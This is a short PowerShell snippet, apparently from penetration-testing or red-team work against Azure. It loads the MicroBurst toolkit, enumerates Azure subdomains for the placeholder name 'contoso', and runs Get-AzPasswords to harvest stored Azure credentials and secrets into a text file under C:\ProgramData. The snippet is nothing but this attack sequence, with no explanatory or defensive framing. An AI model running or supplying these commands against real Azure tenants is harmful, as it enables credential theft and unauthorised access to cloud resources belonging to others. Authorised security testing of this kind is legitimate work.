Import-Module .\MicroBurst.psm1
Invoke-EnumerateAzureSubDomains -Base "contoso" -Verbose
Get-AzPasswords -Verbose | Out-File "C:\ProgramData\az-secrets.txt"
